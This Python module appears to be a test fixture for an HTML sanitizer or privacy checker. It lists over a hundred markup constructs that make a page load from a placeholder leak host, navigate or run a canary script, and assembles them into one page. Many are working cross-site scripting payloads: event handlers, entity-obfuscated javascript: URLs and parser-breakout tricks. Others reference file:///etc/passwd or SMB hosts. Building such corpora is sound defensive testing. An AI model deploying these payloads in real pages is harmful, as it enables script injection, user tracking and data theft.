"""Every construct known to make a page load, navigate, run or connect, written as one list."""

from __future__ import annotations

U = "http://leak.example/"

CONSTRUCTS = [
    # pictures and their relatives
    *(
        f'<img src="{U}1">',
        f"<img src={U}2>",
        f'<IMG SRC="{U}3">',
        '<img src="//leak.example/4">',
        f'<img src=" {U}5">',
    ),
    *(f'<img srcset="{U}6 1x, {U}7 2x">', f'<img lowsrc="{U}8">', f'<img dynsrc="{U}9">', f'<img longdesc="{U}10">'),
    *(
        f'<picture><source srcset="{U}11"><img src="{U}12"></picture>',
        f'<img src="x" data-src="{U}13">',
        f'<image src="{U}14">',
    ),
    *(
        f'<input type="image" src="{U}15">',
        f'<img usemap="{U}16#x">',
        f'<body background="{U}17">',
        f'<table background="{U}18">',
    ),
    *(
        f'<td background="{U}19">',
        f'<img src="x:x" onerror="this.src=\'{U}20\'">',
        f'<img imagesrcset="{U}21">',
        f'<img src="\t{U}22">',
    ),
    # frames, objects, media
    *(
        f'<iframe src="{U}23"></iframe>',
        f'<iframe srcdoc="&lt;img src={U}24&gt;"></iframe>',
        f'<frameset><frame src="{U}25"></frameset>',
    ),
    *(
        f'<object data="{U}26"></object>',
        f'<object><param name="movie" value="{U}27"></object>',
        f'<embed src="{U}28">',
    ),
    *(
        f'<applet code="x" codebase="{U}29"></applet>',
        f'<portal src="{U}30"></portal>',
        f'<fencedframe src="{U}31"></fencedframe>',
    ),
    *(
        f'<video src="{U}32" poster="{U}33"></video>',
        f'<audio src="{U}34"></audio>',
        f'<video><source src="{U}35"></video>',
    ),
    *(
        f'<video><track src="{U}36"></video>',
        f'<bgsound src="{U}37">',
        f'<iframe src="data:text/html,<img src={U}38>"></iframe>',
    ),
    # links of the head
    *(
        f'<link rel="stylesheet" href="{U}39">',
        f'<link rel="preconnect" href="{U}40">',
        f'<LINK REL="PreConnect" HREF="{U}41">',
    ),
    *(
        f'<link rel="dns-prefetch preconnect" href="{U}42">',
        f'<link rel="prefetch" href="{U}43">',
        f'<link rel="icon" href="{U}44">',
    ),
    *(
        f'<link rel="manifest" href="{U}45">',
        f'<link rel="import" href="{U}46">',
        f'<link rel="modulepreload" href="{U}47">',
    ),
    *(
        f'<link rel="preload" as="image" imagesrcset="{U}48">',
        f'<link rel="search" href="{U}49">',
        f'<link rel="alternate" href="{U}50">',
    ),
    *(
        f'<link rel="pingback" href="{U}51">',
        f'<html manifest="{U}52">',
        f'<head profile="{U}53">',
        f'<base href="{U}54">',
    ),
    # meta
    *(f'<meta http-equiv="refresh" content="0;url={U}55">', f'<meta http-equiv="REFRESH" content="1; URL=\'{U}56\'">'),
    *(
        f'<noscript><meta http-equiv="refresh" content="0;url={U}57"></noscript>',
        '<meta http-equiv="x-dns-prefetch-control" content="on">',
    ),
    *(
        f'<meta http-equiv="Content-Security-Policy" content="report-uri {U}58">',
        '<meta http-equiv="set-cookie" content="a=b">',
    ),
    *(f'<meta property="og:image" content="{U}59">', f'<meta name="msapplication-TileImage" content="{U}60">'),
    # style
    *(
        f'<style>@import "{U}61";</style>',
        f"<style>@import url({U}62);</style>",
        f"<style>p{{background:url({U}63)}}</style>",
    ),
    *(
        f"<style>@font-face{{font-family:x;src:url({U}64)}}*{{font-family:x}}</style>",
        f'<p style="background:url({U}65)">',
    ),
    *(
        f"<p style=\"background-image:url('{U}66')\">",
        f'<p style="list-style:url({U}67)">',
        f'<p style="cursor:url({U}68),auto">',
    ),
    *(f'<p style="border-image:url({U}69) 1">', f'<p style="content:url({U}70)">', f'<p style="mask:url({U}71)">'),
    *(f'<p style="filter:url({U}72#x)">', f'<p style="shape-outside:url({U}73)">', f'<p style="clip-path:url({U}74)">'),
    *(
        f"<p style=\"background:image-set('{U}75' 1x)\">",
        f'<p style="--x:url({U}76);background:var(--x)">',
        f"<style>:root{{--x:url({U}77)}}</style>",
    ),
    *(
        f'<p style="background:u\\72l({U}78)">',
        f'<p style="background:url(/*x*/{U}79)">',
        f'<style media="print">p{{background:url({U}80)}}</style>',
    ),
    *(
        f'<style>@media screen{{@import "{U}81";p{{background:url({U}82)}}}}</style>',
        f'<p style="-moz-binding:url({U}83)">',
    ),
    *(f'<p style="behavior:url({U}84)">', f"<style>@namespace url({U}85);</style>", f'<?xml-stylesheet href="{U}86"?>'),
    *(
        f'<p style="background:cross-fade(url({U}87),red)">',
        f'<p style="offset-path:url({U}88)">',
        f"<p style='background:url(\"{U}89\"'>",
    ),
    # svg and mathematics
    *(
        f'<svg><image href="{U}90"/></svg>',
        f'<svg><image xlink:href="{U}91"/></svg>',
        f'<svg><use href="{U}92#x"/></svg>',
    ),
    *(
        f'<svg><feImage href="{U}93"/></svg>',
        f'<svg><rect fill="url({U}94#x)"/></svg>',
        f'<svg><script href="{U}95"></script></svg>',
    ),
    *(f'<svg><style>@import "{U}96"</style></svg>', f'<svg><foreignObject><img src="{U}97"></foreignObject></svg>'),
    *(
        '<svg><a xlink:href="javascript:canary()"><text>x</text></a></svg>',
        f'<svg><animate attributeName="href" values="{U}98"/></svg>',
    ),
    *(
        f'<math href="{U}99">x</math>',
        f'<math><mtext><img src="{U}100"></mtext></math>',
        '<svg onload="canary()"></svg>',
    ),
    *(
        f'<math><annotation-xml encoding="text/html"><iframe src="{U}101"></annotation-xml></math>',
        '<svg><set attributeName="onmouseover" to="canary()"/></svg>',
    ),
    # forms
    *(
        f'<form action="{U}102"><input name="a"></form>',
        f'<button formaction="{U}103">x</button>',
        '<input type="password" autofocus onfocus="canary()">',
    ),
    *(
        f'<isindex action="{U}104">',
        f'<form id="f"></form><button form="f" formaction="{U}105">',
        f'<select><option style="background:url({U}106)">',
    ),
    # script
    *(
        "<script>canary()</script>",
        f'<script src="{U}107"></script>',
        f"<script>fetch('{U}108')</script>",
        "<body onload=canary()>",
    ),
    *(
        '<a href="javascript:canary()">x</a>',
        '<a href="JaVaScRiPt&colon;canary()">x</a>',
        '<a href="java&#10;script:canary()">x</a>',
    ),
    *(
        '<a href="&#xA0;javascript:canary()">x</a>',
        '<a href="&#x2028;javascript:canary()">x</a>',
        '<a href="data:text/html,<script>canary()</script>">x</a>',
    ),
    *(
        "<img src=x onerror=canary()>",
        '<img src="x"onerror="canary()">',
        "<img/src=x/onerror=canary()>",
        "<details open ontoggle=canary()>",
    ),
    *(
        "<template><script>canary()</script></template>",
        '<noscript><p title="</noscript><img src=x onerror=canary()>">',
        "<x onclick=canary()>x</x>",
    ),
    *(
        "<marquee onstart=canary()>",
        "<style><img src=x onerror=canary()></style>",
        '<p title="--><img src=x onerror=canary()>">',
        "<!--><img src=x onerror=canary()>-->",
    ),
    *(
        "<a href='vbscript:canary()'>x</a>",
        "<a href='file:///etc/passwd'>x</a>",
        "<img src='file:///etc/passwd'>",
        "<img src='smb://leak.example/x'>",
    ),
    *(
        f'<a href="http://ok.example/" ping="{U}109">x</a>',
        f'<q cite="{U}110">x</q>',
        f'<del cite="{U}111">x</del>',
        f'<a download href="{U}112">',
    ),
    *(
        f'<blockquote cite="{U}113">x</blockquote>',
        f'<menuitem icon="{U}114">',
        f'<area href="{U}115">',
        '<img src="cid:none" onload="canary()">',
    ),
    *(
        f'<img src="view-source:{U}116">',
        f'<img src="jar:{U}117!/x">',
        '<img src="\\\\leak.example\\x">',
        "<xmp><img src=x onerror=canary()></xmp>",
    ),
    *(
        "<plaintext><img src=x onerror=canary()>",
        "<textarea><img src=x onerror=canary()></textarea>",
        "<title><img src=x onerror=canary()></title>",
    ),
]

PAGE = "<html><body>" + "\n".join(one for one in CONSTRUCTS if "plaintext" not in one) + CONSTRUCTS[-3]
